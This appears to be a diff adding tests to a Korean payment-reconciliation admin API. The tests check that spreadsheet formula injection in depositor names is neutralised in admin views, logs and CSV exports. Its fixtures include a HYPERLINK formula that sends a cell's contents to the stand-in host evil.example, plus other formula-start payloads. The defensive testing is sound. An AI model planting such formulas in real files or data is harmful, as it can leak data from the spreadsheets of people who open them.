@@ -344,3 +344,54 @@ describe('POST /admin/payments/reconcile', () => {
     assert.equal((await ctx.database.db.select().from(payments))[0]?.status, 'pending')
   })
 })
+
+describe('text operators paste into a spreadsheet (CSV injection)', () => {
+  const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"입금확인")'
+
+  it('keeps a formula-like depositor name as text in every admin answer, and as sent in the database', async () => {
+    const p = (await intent(minsu)).json()
+    const csvStatement = `거래일시,적요,입금액\n2026-11-26 10:00,"${FORMULA.replaceAll('"', '""')} ${p.code}","33,000"\n`
+    const post = (query: string) =>
+      ctx.app.inject({
+        method: 'POST',
+        url: `/admin/payments/reconcile${query}`,
+        headers: { ...admin.headers, 'content-type': 'text/csv' },
+        payload: csvStatement,
+      })
+    const dry = await post('')
+    assert.equal(dry.statusCode, 200, dry.body)
+    assert.equal(dry.json().lines[0].depositor, `'${FORMULA} ${p.code}`)
+    assert.equal((await post('?apply=true')).json().applied, 1)
+
+    const listed = (await call(ctx.app, admin, 'GET', '/admin/payments')).json().items[0]
+    assert.equal(listed.depositorName, `'${FORMULA} ${p.code}`)
+    const log = (await call(ctx.app, admin, 'GET', '/admin/actions')).json().items
+    const verify = log.find((a: { action: string }) => a.action === 'payment.verify')
+    assert.equal(verify.detail.depositorName, `'${FORMULA} ${p.code}`)
+    // The data itself is kept as it came; only what operators read is defused.
+    const [row] = await ctx.database.db.select().from(payments)
+    assert.equal(row?.depositorName, `${FORMULA} ${p.code}`)
+    assert.equal(
+      (await call(ctx.app, minsu, 'GET', `/payments/${p.id}`)).json().depositorName,
+      `${FORMULA} ${p.code}`,
+    )
+  })
+
+  it('exports payments as CSV whose cells never start a formula', async () => {
+    const p = (await intent(minsu)).json()
+    const verified = await call(ctx.app, admin, 'POST', `/admin/payments/${p.id}/verify`, {
+      depositorName: '@SUM(1+1)*cmd',
+      memo: '-2+3 확인, "따옴표"',
+    })
+    assert.equal(verified.statusCode, 200, verified.body)
+    const res = await call(ctx.app, admin, 'GET', '/admin/payments/export?status=verified')
+    assert.equal(res.statusCode, 200, res.body)
+    assert.match(res.headers['content-type'] as string, /^text\/csv/)
+    assert.match(res.headers['content-disposition'] as string, /attachment/)
+    const [header, line, end] = res.body.replace(/^\uFEFF/, '').split('\r\n')
+    assert.equal(header?.split(',')[5], 'depositorName')
+    assert.ok(line?.includes(`,'@SUM(1+1)*cmd,"'-2+3 확인, ""따옴표""",`), line)
+    assert.equal(end, '')
+    assert.equal((await call(ctx.app, minsu, 'GET', '/admin/payments/export')).statusCode, 403)
+  })
+})
